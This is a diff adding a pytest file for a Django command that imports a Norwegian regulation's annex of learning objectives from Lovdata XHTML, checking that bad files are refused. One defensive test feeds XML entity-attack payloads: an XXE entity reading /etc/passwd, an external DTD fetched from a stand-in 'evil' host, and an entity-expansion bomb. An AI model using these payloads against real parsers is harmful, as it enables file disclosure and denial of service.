@@ -1,0 +1,288 @@
+"""A file that is not as it should be: a message that says where, exit code 1, and nothing written."""
+
+from __future__ import annotations
+
+import io
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+from django.core.management import CommandError, call_command
+
+from bench import annex_markup as markup
+from objectives.annex import source
+
+from .annex_files import PART_A, annex, row_counts, write
+
+pytestmark = pytest.mark.django_db
+
+
+@pytest.fixture(autouse=True)
+def a_register_of_its_own(tmp_path: Path) -> None:
+    """Something is in the register already, so that «unchanged» is more than «empty»."""
+    call_command("import_annex", str(write(tmp_path, annex(), "foer.xml")), stdout=io.StringIO())
+
+
+@pytest.fixture
+def refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Callable[..., str]:
+    def import_and_expect_a_refusal(content: str | bytes | Path, *arguments: str) -> str:
+        path = content if isinstance(content, Path) else write(tmp_path, content)
+        before = row_counts()
+
+        with pytest.raises(CommandError) as refusal:
+            call_command("import_annex", str(path), *arguments)
+
+        assert refusal.value.returncode == 1
+        assert row_counts() == before
+        return str(refusal.value)
+
+    return import_and_expect_a_refusal
+
+
+def line_of(words: str, text: str) -> str:
+    """«Linje 12», the line of the file these words are on."""
+    (line,) = [number for number, line in enumerate(text.splitlines(), start=1) if words in line]
+    return f"Linje {line}:"
+
+
+def test_a_missing_file(refused, tmp_path):
+    assert "finnes ikke" in refused(tmp_path / "borte.xml")
+
+
+def test_a_directory(refused, tmp_path):
+    assert "er ikke en fil" in refused(tmp_path)
+
+
+def test_an_empty_file(refused):
+    assert "er tom" in refused(b" \n ")
+
+
+def test_a_file_that_is_too_large(refused, monkeypatch):
+    monkeypatch.setattr(source, "MAX_BYTES", 1000)
+
+    assert "for stor" in refused(annex())
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        "Bare tekst.",
+        '{"on": "2026-03-01"}',
+        "%PDF-1.7",
+        "<a>Ikke lukket riktig</b>",
+        "<svg/>",
+        "<html><body><p>En annen side</p></body></html>",
+        markup.document("").replace("documentHeader", "etAnnetHode"),
+        markup.document("").replace("legacyID", "enAnnenId"),
+    ],
+)
+def test_a_file_that_is_not_lovdata_xhtml(refused, content):
+    assert "er ikke Lovdatas XHTML" in refused(content)
+
+
+def test_html_that_is_not_xhtml(refused):
+    text = annex(start='<html>\n<head><meta charset="utf-8"></head>\n<body>', end="</body></html>")
+
+    assert "er ikke Lovdatas XHTML" in refused(text)
+
+
+@pytest.mark.parametrize("share", [0.1, 0.3, 0.5, 0.7, 0.9, 0.99])
+def test_a_truncated_file(refused, share):
+    text = annex().encode()
+
+    message = refused(text[: int(len(text) * share)])
+
+    assert "avkortet" in message
+    assert message.startswith("Linje ")
+
+
+def test_a_file_truncated_in_the_middle_of_a_letter(refused):
+    text = annex().encode()
+    end = text.rindex("å".encode()) + 1
+
+    assert "avkortet" in refused(text[:end])
+
+
+@pytest.mark.parametrize(
+    "doctype",
+    [
+        '<!DOCTYPE html [<!ENTITY a "b">]>',
+        '<!DOCTYPE lolz [\n<!ENTITY lol "lol">\n<!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;">\n]>',
+        '<!DOCTYPE html [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
+        '<!DOCTYPE html [<!ENTITY % dtd SYSTEM "http://example.com/evil.dtd"> %dtd;]>',
+    ],
+)
+def test_a_doctype_with_entities(refused, doctype):
+    text = annex(start=f'<?xml version="1.0"?>\n{doctype}\n<html><body>', end="</body></html>")
+
+    message = refused(text)
+
+    assert "Linje 2: Filen har en DOCTYPE" in message
+
+
+def test_a_doctype_further_down(refused):
+    text = annex().replace("<main", '\n<!DOCTYPE html [<!ENTITY a "b">]><main')
+
+    assert "DOCTYPE" in refused(text)
+
+
+def test_an_entity_that_xml_does_not_have(refused):
+    text = annex(markup.paragraph("GAK-001 Beherske XX.").replace("XX", "leveren&nbsp;nå"))
+
+    message = refused(text)
+
+    assert "entitet" in message
+    assert line_of("&nbsp;", text) in message
+
+
+def test_elements_too_deep_in_each_other(refused):
+    deep = source.MAX_DEPTH * "<span>" + source.MAX_DEPTH * "</span>"
+
+    assert "for dypt" in refused(annex(markup.paragraph("GAK-001 Beherske leveren.", deep)))
+
+
+def test_a_file_that_is_not_utf8(refused):
+    message = refused(annex().encode("cp1252"))
+
+    assert "ikke UTF-8" in message
+    assert message.startswith("Linje ")
+
+
+def test_a_file_that_says_it_is_in_another_encoding(refused):
+    text = annex(start='<?xml version="1.0" encoding="ISO-8859-1"?><html><body>', end="</body></html>")
+
+    assert "ikke UTF-8" in refused(text)
+
+
+def test_a_regulation_without_annex_2(refused):
+    assert "ikke noe vedlegg 2" in refused(annex().replace('data-name="vedlegg2"', 'data-name="vedlegg1"'))
+
+
+def test_two_annexes_2(refused):
+    second = markup.section("Vedlegg 2", name="vedlegg2", level=2)
+
+    assert "to vedlegg 2" in refused(annex(before=second))
+
+
+def test_an_annex_without_objectives(refused):
+    assert "ingen læringsmål" in refused(markup.document(markup.part("A. Felles", markup.small("Tomt."))))
+
+
+def test_the_same_code_twice(refused):
+    text = annex(
+        markup.paragraph("GAK-001 Beherske punksjon."),
+        markup.paragraph("GAK-002 Ha kunnskap om biopsi."),
+        markup.paragraph("GAK-001 Beherske drenasje."),
+    )
+
+    message = refused(text)
+
+    first, second = (line_of(words, text).removesuffix(":") for words in ("GAK-001 Beherske punksjon", "drenasje"))
+    assert message.startswith(f"{second}: GAK-001 står to ganger: her og på {first.lower()}.")
+
+
+def test_an_unknown_prefix(refused):
+    text = annex(markup.paragraph("XYZ-001 Beherske noe annet."))
+
+    message = refused(text)
+
+    assert message.startswith(f"{line_of('XYZ-001', text)} XYZ-001 har et ukjent prefiks.")
+
+
+@pytest.mark.parametrize(
+    ("paragraph", "code"),
+    [
+        (markup.paragraph("GAK-001 Beherske punksjon. GAK-002 Beherske biopsi."), "GAK-002"),
+        (markup.paragraph("GAK-001 GAK-002 Beherske punksjon."), "GAK-002"),
+        (markup.paragraph("GAK-001 Beherske:", markup.items("GAK-002 Punksjon.")), "GAK-002"),
+        (markup.paragraph("Følgende gjelder også, se GAK-077."), "GAK-077"),
+        (markup.small("GAK-077 Beherske det lille."), "GAK-077"),
+        (markup.note("GAK-077 endret ved forskrift 28 mars 2021 nr. 1068."), "GAK-077"),
+        ("<table><tr><td>GAK-077 Beherske tabeller.</td></tr></table>", "GAK-077"),
+        (markup.theme("15.13 Milt GAK-077"), "GAK-077"),
+        (markup.paragraph("PAT-001 Beherske obduksjon."), "PAT-001"),
+        (markup.paragraph("GAK–077 Beherske tankestreker."), "GAK–077"),
+        (markup.paragraph("GAK 077 Beherske mellomrom."), "GAK 077"),
+        (markup.paragraph("Gak-077 Beherske små bokstaver."), "Gak-077"),
+    ],
+)
+def test_a_code_where_none_should_be(refused, paragraph, code):
+    text = annex(paragraph)
+
+    message = refused(text)
+
+    assert code in message
+    assert "der det ikke skal stå noen kode" in message or "der prefikset er GAK" in message
+    assert message.startswith(line_of(code, text))
+
+
+@pytest.mark.parametrize("code", ["GAK-01", "GAK-000", "GAK-0001", "LM-001"])
+def test_a_code_with_the_wrong_number_of_digits(refused, code):
+    text = annex(markup.paragraph(f"{code} Beherske sifre."))
+
+    assert f"{code} er ikke en kode" in refused(text)
+
+
+def test_a_code_outside_the_chapters(refused):
+    text = annex(part_a=markup.paragraph("GAK-077 Beherske løse ender."))
+
+    assert "GAK-077 står utenfor kapitlene" in refused(text)
+
+
+def test_an_objective_without_text(refused):
+    assert "GAK-001 har ingen tekst" in refused(annex(markup.paragraph("GAK-001 ")))
+
+
+def test_an_objective_of_part_a_outside_its_lists(refused):
+    part_a = PART_A.replace("A2. Samarbeid</h4>", "A2. Samarbeid</h4>" + markup.paragraph("FKM-009 Beherske alt."))
+
+    assert "FKM-009 står ikke under «Del 1» eller «Del 2–3»" in refused(annex(part_a=part_a))
+
+
+def test_a_list_of_objectives_with_an_item_without_a_code(refused):
+    part_a = PART_A.replace("FKMK-002: ", "")
+
+    assert "har ingen kode" in refused(annex(part_a=part_a))
+
+
+def test_a_table_inside_an_objective(refused):
+    assert "tabell" in refused(annex(markup.paragraph("GAK-001 Beherske:", "<table><tr><td>Rad</td></tr></table>")))
+
+
+def test_words_outside_the_paragraphs(refused):
+    assert "utenfor avsnittene" in refused(annex(markup.paragraph("GAK-001 Beherske punksjon.") + "Løse ord."))
+
+
+@pytest.mark.parametrize(
+    ("heading", "message"),
+    [
+        ("Uten nummer", "har ikke et nummer"),
+        ("B7. Feil del", "har ikke et nummer"),
+        ("C15. Enda en gang", "står to ganger"),
+        ("C49. " + "x" * 200, "for lang"),
+    ],
+)
+def test_a_chapter_that_does_not_fit_the_outline(refused, heading, message):
+    assert message in refused(annex(part_c=markup.chapter(heading)))
+
+
+def test_a_part_the_annex_does_not_have(refused):
+    assert "ikke del A, B eller C" in refused(annex(part_a=markup.part("D. En ny del")))
+
+
+def test_two_headings_of_one_section(refused):
+    assert "er den andre her" in refused(annex("<h5>15.13 Milt</h5>"))
+
+
+@pytest.mark.parametrize("text", ["i morgen", "2026-02-30", "01.03.2026", ""])
+def test_a_date_that_is_not_one(refused, text):
+    assert "--valid-from" in refused(annex(), "--valid-from", text)
+
+
+def test_a_date_before_the_act_was_decided(refused):
+    assert "før forskriften ble vedtatt 08.12.2016" in refused(annex(), "--valid-from", "2016-12-07")
+
+
+@pytest.mark.parametrize("last_change", ["", "Kongen bestemmer", "2107-03-01", "2026-02-30"])
+def test_a_file_that_does_not_say_when_it_last_changed(refused, last_change):
+    assert "Oppgi dagen" in refused(annex(last_change=last_change))
